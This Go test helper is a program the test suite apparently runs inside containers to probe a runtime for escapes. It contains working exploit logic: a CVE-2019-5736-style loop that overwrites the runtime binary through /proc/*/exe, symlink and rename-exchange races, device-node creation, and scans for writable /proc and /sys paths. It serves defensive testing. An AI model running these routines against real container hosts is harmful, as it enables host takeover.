//go:debug containermaxprocs=0

// Command attacker is what the tests of package attack run in containers. It
// tries, and tells on standard output how far it came.
package main

import (
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	args := append(os.Args, "", "")
	switch args[1] {
	case "overwrite":
		overwrite()
	case "swap":
		swap(args[2:])
	case "occupy":
		occupy(args[2], args[3])
	case "calls":
		calls()
	case "devices":
		devices()
	case "writable":
		writable()
	case "fds":
		fds()
	case "self":
		self()
	case "sockets":
		copyFile("/proc/net/unix")
	default:
		os.Exit(99)
	}
}

// overwrite tries for as long as it lives to write to the program of every
// process that it sees, by all the ways that there are (CVE-2019-5736).
func overwrite() {
	fmt.Println("ready")
	held := map[string]int{} // descriptors of programs seen, by name
	for {
		paths, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, p := range paths {
			target, err := os.Readlink(p)
			if err != nil || !strings.Contains(target, "berth") {
				continue
			}
			if _, ok := held[target]; !ok {
				if fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
					held[target] = fd
					fmt.Println("seen", target)
				}
			}
			write(p)
		}
		for target, fd := range held { // also when it does not run any more
			if write("/proc/self/fd/" + strconv.Itoa(fd)) {
				fmt.Println("written", target)
			}
		}
	}
}

func write(path string) bool {
	for _, flags := range []int{unix.O_WRONLY | unix.O_TRUNC, unix.O_RDWR} {
		fd, err := unix.Open(path, flags|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		n, _ := unix.Pwrite(fd, []byte("#!/enemy\n"), 0)
		unix.Close(fd)
		if n > 0 {
			return true
		}
	}
	return false
}

// swap exchanges pairs of names for as long as it lives.
func swap(names []string) {
	var pairs [][2]string
	for i := 0; i+1 < len(names) && names[i] != ""; i += 2 {
		pairs = append(pairs, [2]string{names[i], names[i+1]})
	}
	fmt.Println("ready")
	for {
		for _, p := range pairs {
			_ = unix.Renameat2(unix.AT_FDCWD, p[0], unix.AT_FDCWD, p[1], unix.RENAME_EXCHANGE) // until it works
		}
	}
}

// occupy puts a link in the place of every directory that appears in dir, as
// soon as it does.
func occupy(dir, target string) {
	link := filepath.Join(dir, "link")
	fmt.Println("ready")
	for {
		for i := range 100 {
			name := filepath.Join(dir, "d"+strconv.Itoa(i))
			if unix.Access(name, unix.F_OK) != nil {
				continue
			}
			if os.Symlink(target, link) != nil && unix.Access(link, unix.F_OK) != nil {
				continue
			}
			_ = unix.Renameat2(unix.AT_FDCWD, link, unix.AT_FDCWD, name, unix.RENAME_EXCHANGE) // until it works
			_ = os.RemoveAll(link)
		}
	}
}

// devices makes a node of every number that a host may have, in a place of its
// own, and lists those that can be opened.
func devices() {
	const dir = "/tmp/nodes"
	_ = os.Mkdir(dir, 0o700)
	for _, kind := range []uint32{unix.S_IFCHR, unix.S_IFBLK} {
		for major := uint32(1); major < 300; major++ {
			for minor := range uint32(12) {
				path := fmt.Sprintf("%s/%x-%d-%d", dir, kind, major, minor)
				if unix.Mknod(path, kind|0o600, int(unix.Mkdev(major, minor))) != nil {
					continue
				}
				fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
				if err == nil {
					unix.Close(fd)
				}
				// Others than EPERM say that the filter let it through.
				if err != unix.EPERM {
					fmt.Printf("%c %d:%d %v\n", map[uint32]rune{unix.S_IFCHR: 'c', unix.S_IFBLK: 'b'}[kind], major, minor, err)
				}
				unix.Unlink(path)
			}
		}
	}
}

// writable lists what can be opened for writing below /proc and /sys. Of the
// processes only this one is looked at.
func writable() {
	for _, root := range []string{"/proc", "/sys"} {
		_ = filepath.WalkDir(root, func(p string, e fs.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			if _, err := strconv.Atoi(strings.TrimPrefix(p, "/proc/")); err == nil && p != "/proc/self" {
				return filepath.SkipDir
			}
			see(p, e)
			return nil
		})
	}
	_ = filepath.WalkDir("/proc/self/", func(p string, e fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if p == "/proc/self/task" || p == "/proc/self/fd" || p == "/proc/self/fdinfo" || p == "/proc/self/map_files" {
			return filepath.SkipDir
		}
		see(p, e)
		return nil
	})
}

func see(p string, e fs.DirEntry) {
	if e.Type()&fs.ModeSymlink != 0 {
		return
	}
	if e.IsDir() { // can anything be made in it?
		name := filepath.Join(p, "enemy")
		if os.Mkdir(name, 0o700) == nil {
			_ = os.Remove(name)
			fmt.Println(p + "/")
		}
		return
	}
	var st unix.Stat_t
	if unix.Lstat(p, &st) != nil || st.Mode&0o222 == 0 {
		return // root may open it, but there is nothing that takes the bytes
	}
	if st.Mode&unix.S_IFMT == unix.S_IFCHR && st.Rdev == unix.Mkdev(1, 3) {
		return // masked
	}
	fd, err := unix.Open(p, unix.O_WRONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
		fmt.Println(p)
	}
}

// fds lists the descriptors that the program was given.
func fds() {
	for n := range 1024 {
		var st unix.Stat_t
		if unix.Fstat(n, &st) != nil {
			continue
		}
		flags, _ := unix.FcntlInt(uintptr(n), unix.F_GETFD, 0)
		if flags&unix.FD_CLOEXEC == 0 {
			target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(n))
			fmt.Println(n, strings.TrimRight(target, "0123456789[]"))
		}
	}
}

func copyFile(path string) {
	f, err := os.Open(path)
	if err != nil {
		fmt.Println(err)
		return
	}
	_, _ = io.Copy(os.Stdout, f)
}
